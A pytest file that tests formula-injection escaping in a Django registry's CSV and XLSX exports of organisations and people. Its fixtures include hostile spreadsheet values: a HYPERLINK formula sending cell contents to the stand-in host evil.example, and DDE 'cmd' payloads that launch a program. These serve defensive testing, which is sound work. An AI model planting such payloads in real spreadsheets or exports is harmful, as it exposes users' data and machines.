import csv
import io

import pytest
from openpyxl import load_workbook

from stakeholders.exports import (
    ORGANISATION_COLUMNS,
    PERSON_COLUMNS,
    escape_csv,
    is_formula_like,
    unescape_csv,
)

pytestmark = pytest.mark.django_db

ORGANISATIONS = "/admin/registry/organisations/"
PEOPLE = "/admin/registry/people/"
# What a spreadsheet would run: each starts with = + - @, a tab or a carriage return.
FORMULAS = {
    "name_fr": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "name_en": "\r=1+1",
    "acronym_fr": "-2+3",
    "phone": "+216 71 000 000",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name_ar": "\t=وزارة",
}


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+216 71", "'+216 71"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),  # already quoted: quoted again, so that importing gives it back
        ("'hello", "'hello"),
        ("Ministère", "Ministère"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_escape_csv_quotes_what_a_spreadsheet_would_evaluate(value, escaped):
    assert escape_csv(value) == escaped
    assert unescape_csv(escape_csv(value)) == value


def test_is_formula_like_only_for_text_with_a_formula_prefix():
    assert all(is_formula_like(value) for value in FORMULAS.values())
    assert not is_formula_like("Ministère de l'Emploi")
    assert not is_formula_like(-1)


def test_organisations_csv_export_writes_formulas_as_quoted_text(staff_client, make_organisation):
    organisation = make_organisation(
        FORMULAS["name_fr"],
        ar=FORMULAS["name_ar"],
        en=FORMULAS["name_en"],
        acronym=FORMULAS["acronym_fr"],
        phone=FORMULAS["phone"],
        address=FORMULAS["address"],
    )

    response = staff_client.get(ORGANISATIONS + "?export=csv")

    assert response["Content-Disposition"] == 'attachment; filename="organisations.csv"'
    [row] = csv_rows(response)
    assert list(row) == ORGANISATION_COLUMNS
    assert row["id"] == str(organisation.pk)
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["kind"] == "ministry"
    assert row["constituency"] == "government"


def test_organisations_xlsx_export_keeps_formulas_as_quoted_string_cells(
    staff_client, make_organisation
):
    make_organisation(
        FORMULAS["name_fr"],
        ar=FORMULAS["name_ar"],
        en=FORMULAS["name_en"],
        acronym=FORMULAS["acronym_fr"],
        phone=FORMULAS["phone"],
        address=FORMULAS["address"],
    )

    response = staff_client.get(ORGANISATIONS + "?export=xlsx")

    assert response["Content-Disposition"] == 'attachment; filename="organisations.xlsx"'
    [row] = xlsx_rows(response)
    for column, value in FORMULAS.items():
        cell = row[column]
        assert cell.data_type == "s", column
        assert cell.quotePrefix, column
        # XML reads a carriage return as a line feed; the cell is text all the same.
        assert cell.value == value.replace("\r", "\n"), column
    assert row["name_fr"].value.startswith("=HYPERLINK")
    assert not row["kind"].quotePrefix


def test_people_exports_write_formulas_as_text_in_csv_and_xlsx(
    staff_client, make_affiliation, make_person, make_organisation
):
    person = make_person(
        "=cmd|' /C calc'!A0", "-Ben Ali", first_name_ar="أمل", phone="+216 98 000 000"
    )
    make_affiliation(person=person, organisation=make_organisation("@Ministère", acronym="MFPE"))

    [row] = csv_rows(staff_client.get(PEOPLE + "?export=csv"))
    assert list(row) == PERSON_COLUMNS
    assert row["first_name"] == "'=cmd|' /C calc'!A0"
    assert row["last_name"] == "'-Ben Ali"
    assert row["phone"] == "'+216 98 000 000"
    assert row["first_name_ar"] == "أمل"
    assert row["organisations"] == "'@Ministère (MFPE)"

    [cells] = xlsx_rows(staff_client.get(PEOPLE + "?export=xlsx"))
    for column in ("first_name", "last_name", "phone", "organisations"):
        assert cells[column].data_type == "s", column
        assert cells[column].quotePrefix, column
    assert cells["first_name"].value == "=cmd|' /C calc'!A0"


def test_csv_export_starts_with_a_byte_order_mark_for_excel(staff_client, make_organisation):
    make_organisation("وزارة التشغيل")

    content = b"".join(staff_client.get(ORGANISATIONS + "?export=csv").streaming_content)

    assert content.startswith(b"\xef\xbb\xbfid,name_fr,")


def test_export_headings_are_the_same_keys_in_the_arabic_admin(staff_client, make_organisation):
    make_organisation()

    response = staff_client.get(ORGANISATIONS + "?export=csv", headers={"accept-language": "ar"})

    assert list(csv_rows(response)[0]) == ORGANISATION_COLUMNS


def test_export_follows_the_listing_filters_and_search(staff_client, make_organisation):
    make_organisation("Ministère du Travail", country="MA")
    make_organisation("Ministère de l'Emploi", country="TN")
    make_organisation("Syndicat", country="MA", kind="workers_organisation")

    response = staff_client.get(ORGANISATIONS + "?export=csv&country=MA&constituency=government")

    assert [row["name_fr"] for row in csv_rows(response)] == ["Ministère du Travail"]
